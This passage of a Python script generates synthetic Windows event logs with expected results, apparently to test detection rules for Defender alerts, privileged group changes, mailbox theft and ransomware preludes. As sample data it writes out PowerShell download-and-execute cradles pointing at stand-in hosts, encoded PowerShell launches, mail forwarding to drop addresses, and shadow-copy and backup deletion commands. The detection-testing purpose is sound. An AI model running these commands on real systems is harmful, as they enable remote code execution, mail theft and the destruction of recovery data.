          'neg Sysmon 13 Run -> AppData\\Local\\Microsoft (installed app)', [k])
    c.add(regset(c, ws, hkcu + 'Explorer\\RecentDocs\\x', 'C:\\Users\\Public\\doc.txt',
                 'C:\\Windows\\explorer.exe'), [],
          'neg Sysmon 13 \\Users\\Public\\ outside a Run key', [k])

    # kz_defender_threat_detected
    k = 'kz_defender_threat_detected'
    c.add(defender(c, ws, 1116, threat('HackTool:Win64/Mimikatz!pz',
                                       'C:\\Users\\Public\\m64.exe', 'Not Applicable')),
          [k], 'Defender 1116 HackTool')
    c.add(defender(c, ws, 1117, threat('Trojan:Win32/CobaltStrike.D!MTB',
                                       'C:\\Windows\\Temp\\svc.exe')),
          [k], 'Defender 1117 action taken')
    c.add(defender(c, ws, 1150), [], 'neg Defender 1150 (platform healthy)', [k])
    c.add(defender(c, ws, 2000, {'Current Signature Version': '1.411.331.0'}), [],
          'neg Defender 2000 (signatures updated)', [k])

    # kz_defender_protection_disabled
    k = 'kz_defender_protection_disabled'
    c.add(defender(c, srv, 5001), [k], 'Defender 5001 real-time protection disabled')
    c.add(defender(c, srv, 5010), [k], 'Defender 5010 scanning for malware disabled')
    c.add(defender(c, srv, 5000), [], 'neg Defender 5000 (real-time protection enabled)', [k])
    c.add(defender(c, srv, 5007, {'Old Value': 'x', 'New Value': 'y'}), [],
          'neg Defender 5007 (configuration changed)', [k])

    # kz_user_account_created (base rule; the correlation is below)
    k = 'kz_user_account_created'
    c.add(sec4720(c, 'DC01.corp.example.com', 'svc_bkp2', DOM_SID + '-3101'), [k],
          '4720 user created')
    c.add(sec(c, 4741, 'DC01.corp.example.com',
              dict(subject('adm_kato', DOM_SID + '-1207'), TargetUserName='WS0999$',
                   TargetDomainName=MC.DOMAIN, TargetSid=DOM_SID + '-3102'), task=13825,
              types={'EventData.TargetSid': 'sid'}),
          [], 'neg 4741 computer account created', [k])
    c.add(sec(c, 4722, 'DC01.corp.example.com',
              dict(subject('adm_kato', DOM_SID + '-1207'), TargetUserName='svc_bkp2',
                   TargetDomainName=MC.DOMAIN, TargetSid=DOM_SID + '-3101'), task=13824,
              types={'EventData.TargetSid': 'sid'}),
          [], 'neg 4722 account enabled', [k])

    # kz_user_added_to_privileged_group
    k = 'kz_user_added_to_privileged_group'
    dc = 'DC01.corp.example.com'
    c.add(sec_group_add(c, dc, 4728, 'svc_bkp', DOM_SID + '-2990', 'Domain Admins',
                        DOM_SID + '-512'), [k], '4728 Domain Admins (-512)')
    c.add(sec_group_add(c, dc, 4756, 'svc_bkp', DOM_SID + '-2990', 'Enterprise Admins',
                        DOM_SID + '-519'), [k], '4756 Enterprise Admins (-519)')
    c.add(sec_group_add(c, dc, 4728, 'svc_bkp', DOM_SID + '-2990', 'ドメイン管理者',
                        DOM_SID + '-512'), [k],
          '4728 group renamed (Japanese name), SID -512')
    c.add(sec_group_add(c, dc, 4728, 'tanaka', DOM_SID + '-2991', 'Sales-Users',
                        DOM_SID + '-4512'), [], 'neg 4728 Sales-Users (SID ends -4512)', [k])
    c.add(sec_group_add(c, 'WS0233.corp.example.com', 4732, 'tanaka', DOM_SID + '-2991',
                        'Administrators', 'S-1-5-32-544'), [],
          'neg 4732 local Administrators (left out by design)', [k])
    c.add(sec_group_add(c, dc, 4729, 'svc_bkp', DOM_SID + '-2990', 'Domain Admins',
                        DOM_SID + '-512'), [], 'neg 4729 member removed from Domain Admins',
          [k])

    # kz_audit_policy_disabled
    k = 'kz_audit_policy_disabled'
    c.add(sec4719(c, srv, '%%8448'), [k], '4719 success removed by adm_kato')
    c.add(sec4719(c, srv, '%%8448, %%8450'), [k], '4719 success and failure removed')
    c.add(sec4719(c, srv, '%%8449'), [], 'neg 4719 success added', [k])
    c.add(sec4719(c, srv, '%%8450', user='SRV-APP02$', sid=MC.SYSTEM_SID), [],
          'neg 4719 failure removed by Group Policy (SYSTEM)', [k])

    # kz_sysmon_config_changed / kz_sysmon_service_stopped
    k = 'kz_sysmon_config_changed'
    c.add(sysmon16(c, ws, 'C:\\Users\\Public\\empty.xml'), [k], 'Sysmon 16 config changed')
    c.add(sysmon4(c, ws, 'Started'), [], 'neg Sysmon 4 Started', [k, 'kz_sysmon_service_stopped'])
    k = 'kz_sysmon_service_stopped'
    c.add(sysmon4(c, ws, 'Stopped'), [k], 'Sysmon 4 Stopped')
    c.add(MC.event(MC.system(c, MC.SECURITY, 4, ws, level=0), {'State': 'Stopped'}), [],
          'neg Security-channel event 4 with State Stopped', [k])

    # Exchange: kz_mailbox_full_access_grant / kz_mailbox_forwarding_set
    ex = 'EXCH01.corp.example.com'
    k = 'kz_mailbox_full_access_grant'
    c.add(MC.exch(c, ex, 'Add-MailboxPermission', '-Identity "ceo" -User "CORP\\svc_bkp" '
                  '-AccessRights "FullAccess" -InheritanceType "All"'),
          [k], 'Exchange 1 Add-MailboxPermission FullAccess')
    c.add(MC.exch(c, ex, 'Add-MailboxPermission', '-Identity "ceo" -User "CORP\\assistant" '
                  '-AccessRights "ReadPermission"'),
          [], 'neg Exchange 1 Add-MailboxPermission ReadPermission', [k])
    c.add(MC.exch(c, ex, 'Remove-MailboxPermission', '-Identity "ceo" -User "CORP\\svc_bkp" '
                  '-AccessRights "FullAccess"'),
          [], 'neg Exchange 1 Remove-MailboxPermission FullAccess', [k])
    k = 'kz_mailbox_forwarding_set'
    c.add(MC.exch(c, ex, 'Set-Mailbox', '-Identity "ceo" -DeliverToMailboxAndForward "True" '
                  '-ForwardingSmtpAddress "smtp:drop@203.0.113.9.example"'),
          [k], 'Exchange 1 Set-Mailbox -ForwardingSmtpAddress')
    c.add(MC.exch(c, ex, 'New-InboxRule', '-Mailbox "cfo" -Name "x" -RedirectTo '
                  '"drop@example.net"'), [k], 'Exchange 1 New-InboxRule -RedirectTo')
    c.add(MC.exch(c, ex, 'Set-Mailbox', '-Identity "ceo" -ProhibitSendQuota "50GB"'), [],
          'neg Exchange 1 Set-Mailbox quota', [k])
    c.add(MC.exch(c, ex, 'New-InboxRule', '-Mailbox "cfo" -Name "news" -MoveToFolder '
                  '"cfo:\\News"'), [], 'neg Exchange 1 New-InboxRule MoveToFolder', [k])

    # kz_ps_exchange_mail_theft
    k = 'kz_ps_exchange_mail_theft'
    c.add(MC.ps4104(c, ex, 'Get-Mailbox -ResultSize 100 | % { New-MailboxExportRequest '
                    '-Mailbox $_ -FilePath \\\\EXCH01\\c$\\Temp\\$($_.Alias).pst }'),
          [k], '4104 New-MailboxExportRequest loop')
    c.add(MC.ps4104(c, ex, 'Add-MailboxPermission -Identity cfo -User svc_bkp '
                    '-AccessRights FullAccess', prov=MC.PWSH_CORE),
          [k], '4104 (PowerShellCore) Add-MailboxPermission FullAccess')
    c.add(MC.ps4104(c, ex, 'Get-MailboxExportRequest | Remove-MailboxExportRequest '
                    '-Confirm:$false'), [], 'neg 4104 Get/Remove-MailboxExportRequest', [k])
    c.add(MC.ps4104(c, ex, 'Get-MailboxPermission -Identity cfo | ? AccessRights -eq '
                    'FullAccess'), [], 'neg 4104 Get-MailboxPermission FullAccess', [k])

    # kz_ps_download_cradle
    k = 'kz_ps_download_cradle'
    c.add(MC.ps4104(c, ws, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7"
                    "/a.ps1')"), [k], '4104 IEX Net.WebClient DownloadString')
    c.add(MC.ps4104(c, ws, "$u='https://cdn.example.net/x';Invoke-WebRequest $u -UseBasic"
                    "Parsing | Select -Expand Content | Invoke-Expression"),
          [k], '4104 Invoke-WebRequest | Invoke-Expression')
    c.add(MC.ps4104(c, ws, "(New-Object Net.WebClient).DownloadFile('https://intra.example/"
                    "tool.zip','C:\\Temp\\tool.zip')"), [],
          'neg 4104 DownloadFile to disk, no IEX', [k])
    c.add(MC.ps4104(c, ws, "Invoke-Expression 'Get-Date'"), [],
          'neg 4104 Invoke-Expression without download', [k])

    # kz_powershell_encoded_command
    k = 'kz_powershell_encoded_command'
    c.add(proc(c, ws, PS, 'powershell.exe -NoP -sta -NonI -W Hidden -Enc WwBTAFkAUwB0AEUA',
               form='4688'), [k], '4688 powershell -Enc')
    c.add(proc(c, ws, 'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
               'pwsh /ec SQBFAFgAIAAoAE4AZQB3AC0A'), [k], 'Sysmon 1 pwsh /ec (slash form)')
    c.add(proc(c, ws, PS, 'powershell -e SQBFAFgAIAAoAE4AZQB3AC0A'), [k],
          'Sysmon 1 powershell -e')
    c.add(proc(c, ws, PS, 'powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inv.ps1'),
          [], 'neg Sysmon 1 powershell -ExecutionPolicy -File', [k])
    c.add(proc(c, ws, PS, 'powershell.exe -ep bypass -Command Get-Date', form='4688'),
          [], 'neg 4688 powershell -ep (not -e)', [k])

    # kz_powershell_download_cradle_cmdline
    k = 'kz_powershell_download_cradle_cmdline'
    c.add(proc(c, ws, PS, 'powershell.exe  "IEX (New-Object Net.WebClient).DownloadString('
               '\'https://203.0.113.7/Invoke-Shell.ps1\')"', form='4688'),
          [k], '4688 powershell IEX DownloadString')
    c.add(proc(c, ws, PS, 'powershell -c "iwr https://cdn.example.net/s.ps1 -UseB | iex"'),
          [k], 'Sysmon 1 iwr | iex')
    c.add(proc(c, ws, PS, 'powershell -c "iwr https://intra.example/tool.zip -OutFile t.zip"'),
          [], 'neg Sysmon 1 iwr -OutFile, no iex', [k])

    # kz_webserver_spawns_shell
    k = 'kz_webserver_spawns_shell'
    w3wp = SYS + 'inetsrv\\w3wp.exe'
    c.add(proc(c, 'AV-SRV01.corp.example.com', CMD, 'cmd.exe /c whoami', parent=w3wp),
          [k], 'Sysmon 1 w3wp -> cmd.exe')
    c.add(proc(c, 'AV-SRV01.corp.example.com', SYS + 'whoami.exe', 'whoami /all',
               parent='C:\\Apache24\\bin\\httpd.exe', form='4688'),
          [k, 'kz_discovery_command'], '4688 httpd -> whoami (discovery too)')
    c.add(proc(c, 'AV-SRV01.corp.example.com', SYS + 'csc.exe', 'csc.exe /noconfig @x.cmdline',
               parent=w3wp), [], 'neg Sysmon 1 w3wp -> csc.exe (ASP.NET compile)', [k])
    c.add(proc(c, 'AV-SRV01.corp.example.com', CMD, 'cmd.exe /c dir',
               parent='C:\\Windows\\explorer.exe'), [], 'neg Sysmon 1 explorer -> cmd', [k])

    # kz_discovery_command (low, single)
    k = 'kz_discovery_command'
    c.add(proc(c, ws, SYS + 'systeminfo.exe', 'systeminfo'), [k], 'Sysmon 1 systeminfo')
    c.add(proc(c, ws, SYS + 'net.exe', 'net group "Domain Admins" /domain', form='4688'),
          [k], '4688 net group /domain')
    c.add(proc(c, ws, SYS + 'notepad.exe', 'notepad.exe net.txt'), [],
          'neg Sysmon 1 notepad net.txt', [k])
    c.add(proc(c, ws, 'C:\\Tools\\subnet.exe', 'subnet.exe'), [],
          'neg Sysmon 1 subnet.exe (ends with net.exe, not \\net.exe)', [k])

    # kz_explicit_credentials_logon (base)
    k = 'kz_explicit_credentials_logon'
    c.add(sec4648(c, ws, 'alice', 'FS01.corp.example.com'), [k], '4648 alice -> FS01')
    c.add(sec4648(c, ws, 'alice', 'localhost'), [], 'neg 4648 to localhost', [k])
    c.add(sec4648(c, ws, 'WS0233$', 'DC01.corp.example.com', sid=MC.SYSTEM_SID), [],
          'neg 4648 by the machine account', [k])

    # kz_failed_network_logon (base)
    k = 'kz_failed_network_logon'
    c.add(sec4625(c, srv, '198.51.100.44', logon_type=10), [k], '4625 type 10 from remote')
    c.add(sec4625(c, srv, '10.20.4.17'), [k], '4625 type 3 from LAN')
    c.add(sec4625(c, srv, '-', logon_type=2), [], 'neg 4625 type 2 local', [k])
    c.add(sec4625(c, srv, '127.0.0.1'), [], 'neg 4625 type 3 from 127.0.0.1', [k])

    # kz_restart_manager_session (base)
    k = 'kz_restart_manager_session'
    c.add(restart_manager(c, srv, '0'), [k], 'Application 10000 RM session start')
    c.add(restart_manager(c, srv, '0', eid=10001), [], 'neg Application 10001 (session end)',
          [k])


def correlations(c):
    # kz_failed_logon_burst: 10 from one address within 5 min
    k, b = 'kz_failed_logon_burst', 'kz_failed_network_logon'
    c.gap()
    c.step(20)
    for i in range(10):
        c.add(sec4625(c, 'RDS01.corp.example.com', '203.0.113.77', logon_type=10,
                      user='user%d' % i), [b, k] if i == 9 else [b],
              'burst %d/10 4625 from 203.0.113.77' % (i + 1))
    c.gap()
    for i in range(9):
        c.add(sec4625(c, 'RDS01.corp.example.com', '203.0.113.78', logon_type=10), [b],
              'neg burst %d/9 4625 from 203.0.113.78' % (i + 1), [k] if i == 8 else [])
    c.gap()
    c.step(40)  # 10 events over 6 minutes: never 10 within 5
    for i in range(10):
        c.add(sec4625(c, 'RDS01.corp.example.com', '203.0.113.79', logon_type=10), [b],
              'neg slow burst %d/10 4625 from 203.0.113.79 (40 s apart)' % (i + 1),
              [k] if i == 9 else [])

    # kz_explicit_credentials_fanout: 5 distinct servers within 10 min
    k, b = 'kz_explicit_credentials_fanout', 'kz_explicit_credentials_logon'
    c.gap()
    c.step(60)
    for i in range(5):
        c.add(sec4648(c, 'JUMP01.corp.example.com', 'svc_vendor', 'MAIL%02d.corp.example.com'
                      % (i + 1)), [b, k] if i == 4 else [b],
              'fanout %d/5 4648 svc_vendor -> MAIL%02d' % (i + 1, i + 1))
    c.gap()
    for i, t in enumerate([1, 2, 3, 4, 4]):
        c.add(sec4648(c, 'JUMP01.corp.example.com', 'bob', 'FS%02d.corp.example.com' % t),
              [b], 'neg fanout event %d/5 4648 bob -> FS%02d (4 distinct)' % (i + 1, t),
              [k] if i == 4 else [])

    # kz_new_user_made_admin: 4720 then Domain Admins add within 60 min, same SID
    k = 'kz_new_user_made_admin'
    c1, c2 = 'kz_user_account_created', 'kz_user_added_to_privileged_group'
    dc = 'DC02.corp.example.com'
    c.gap()
    c.step(20 * 60)
    c.add(sec4720(c, dc, 'helpdesk_tmp', DOM_SID + '-4001'), [c1], 'new admin: 4720 helpdesk_tmp')
    c.add(sec_group_add(c, dc, 4728, 'helpdesk_tmp', DOM_SID + '-4001', 'Domain Admins',
                        DOM_SID + '-512'), [c2, k],
          'new admin: 4728 helpdesk_tmp -> Domain Admins 20 min later')
    c.gap()
    c.step(70 * 60)
    c.add(sec4720(c, dc, 'svc_late', DOM_SID + '-4002'), [c1], 'neg new admin: 4720 svc_late')
    c.add(sec_group_add(c, dc, 4728, 'svc_late', DOM_SID + '-4002', 'Domain Admins',
                        DOM_SID + '-512'), [c2], 'neg new admin: 4728 svc_late 70 min later',
          [k])
    c.gap()
    c.step(5 * 60)
    c.add(sec4720(c, dc, 'tanaka2', DOM_SID + '-4003'), [c1], 'neg new admin: 4720 tanaka2')
    c.add(sec_group_add(c, dc, 4728, 'other', DOM_SID + '-4004', 'Domain Admins',
                        DOM_SID + '-512'), [c2],
          'neg new admin: another account (SID -4004) added 5 min later', [k])

    # kz_ransomware_recovery_prelude: the three on one host within 15 min
    k = 'kz_ransomware_recovery_prelude'
    s, bd, bt = 'kz_shadow_copy_deletion', 'kz_backup_deletion', 'kz_boot_recovery_tamper'
    c.gap()
    c.step(60)
    h = 'SQL01.corp.example.com'
    c.add(proc(c, h, SYS + 'vssadmin.exe', 'vssadmin delete shadows /all /quiet'), [s],
          'prelude SQL01: vssadmin delete shadows')
    c.add(proc(c, h, SYS + 'wbadmin.exe', 'wbadmin delete systemstatebackup -deleteOldest'),
          [bd], 'prelude SQL01: wbadmin delete systemstatebackup')
    c.add(proc(c, h, SYS + 'bcdedit.exe', 'bcdedit /set {default} bootstatuspolicy '
               'ignoreallfailures'), [bt, k], 'prelude SQL01: bcdedit ignoreallfailures')
    c.gap()
    h = 'HV01.corp.example.com'
    c.add(proc(c, h, CMD, 'cmd.exe /c "vssadmin delete shadows /all /quiet & wbadmin delete '
               'catalog -quiet & bcdedit /set {default} recoveryenabled no"', form='4688'),
          [s, bd, bt, k], 'prelude HV01: all three in one cmd.exe line')
    c.gap()
    h = 'SQL02.corp.example.com'
    c.add(proc(c, h, SYS + 'vssadmin.exe', 'vssadmin delete shadows /all /quiet'), [s],
          'neg prelude SQL02: vssadmin')
    c.add(proc(c, h, SYS + 'wbadmin.exe', 'wbadmin delete systemstatebackup -deleteOldest'),
          [bd], 'neg prelude SQL02: wbadmin, no boot change', [k])
    c.gap()
    h = 'SQL03.corp.example.com'
    c.add(proc(c, h, SYS + 'vssadmin.exe', 'vssadmin delete shadows /all /quiet'), [s],
          'neg prelude SQL03: vssadmin')
    c.add(proc(c, h, SYS + 'bcdedit.exe', 'bcdedit /set {default} bootstatuspolicy '
               'ignoreallfailures'), [bt], 'neg prelude SQL03: bcdedit')
    c.step(20 * 60)
    c.add(proc(c, h, SYS + 'wbadmin.exe', 'wbadmin delete systemstatebackup -deleteOldest'),
          [bd], 'neg prelude SQL03: wbadmin 20 min later (outside 15 min)', [k])

    # kz_ransomware_mass_write: 20 files by one image on one host within 1 min
    k, b = 'kz_ransomware_mass_write', 'kz_ransomware_extension_write'
    c.gap()
    c.step(2)
    for i in range(20):
        c.add(MC.sysmon11(c, 'FS02.corp.example.com', 'C:\\Windows\\Temp\\lck.exe',
                          'D:\\Share\\Finance\\%03d.xlsx.locked' % i),
              [b, k] if i == 19 else [b], 'mass write %d/20 .locked on FS02' % (i + 1))
    c.gap()
    for i in range(19):
        c.add(MC.sysmon11(c, 'FS03.corp.example.com', 'C:\\Windows\\Temp\\lck.exe',
                          'D:\\Share\\HR\\%03d.docx.locked' % i), [b],
              'neg mass write %d/19 .locked on FS03' % (i + 1), [k] if i == 18 else [])
    c.gap()
    for i in range(20):  # 20 files but two writers (10 each)
        img = 'C:\\Windows\\Temp\\a.exe' if i % 2 else 'C:\\Windows\\Temp\\b.exe'
        c.add(MC.sysmon11(c, 'FS04.corp.example.com', img, 'D:\\Share\\%03d.pdf.encrypted' % i),
              [b], 'neg mass write %d/20 on FS04 by two images' % (i + 1),
              [k] if i == 19 else [])

    # kz_restart_manager_burst: 20 sessions on one host within 1 min
    k, b = 'kz_restart_manager_burst', 'kz_restart_manager_session'
    c.gap()
    c.step(2)
    for i in range(20):
        c.add(restart_manager(c, 'FS05.corp.example.com', str(i)), [b, k] if i == 19 else [b],
              'RM burst %d/20 on FS05' % (i + 1))
    c.gap()
    for i in range(19):
        c.add(restart_manager(c, 'FS06.corp.example.com', str(i)), [b],
              'neg RM burst %d/19 on FS06' % (i + 1), [k] if i == 18 else [])


def build():
    c = Samples()
    single_rules(c)
    correlations(c)
    return c


def main(argv):
    if len(argv) != 2:
        sys.stderr.write('usage: make_samples.py OUTDIR\n')
        return 2
    out = argv[1]
    os.makedirs(out, exist_ok=True)
    c = build()
    opts = W.JsonOptions()
    path = os.path.join(out, 'samples.evtx')
    tmp = path + '.tmp'
    w = W.EvtxWriter(tmp, first_record_id=FIRST_RECORD_ID)
    records = []
    for ev, expect, summary, neg in c.items:
        rid = w.add(W.event_from_json(ev, opts))[3]
        r = {'record_id': rid, 'expect': expect, 'summary': summary}
        if neg:
            r['negative_for'] = neg
        records.append(r)
    w.close()
    os.replace(tmp, path)
    doc = {'evtx': 'samples.evtx', 'scope': 'pack', 'intents': NAMES, 'records': records}
    with open(os.path.join(out, 'expect.json'), 'w', encoding='utf-8') as f:
        json.dump(doc, f, indent=1, ensure_ascii=False)
        f.write('\n')
    pos = set(k for r in records for k in r['expect'])
    neg = set(k for r in records for k in r.get('negative_for', ()))
    missing = [k for k in NAMES if k not in pos or k not in neg]
    sys.stderr.write('make_samples: %d records (%d with no detection) -> %s\n' %
                     (len(records), sum(1 for r in records if not r['expect']), out))
    if missing:
        sys.stderr.write('make_samples: no positive or no negative sample: %s\n' %
                         ', '.join(missing))
        return 1
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv))
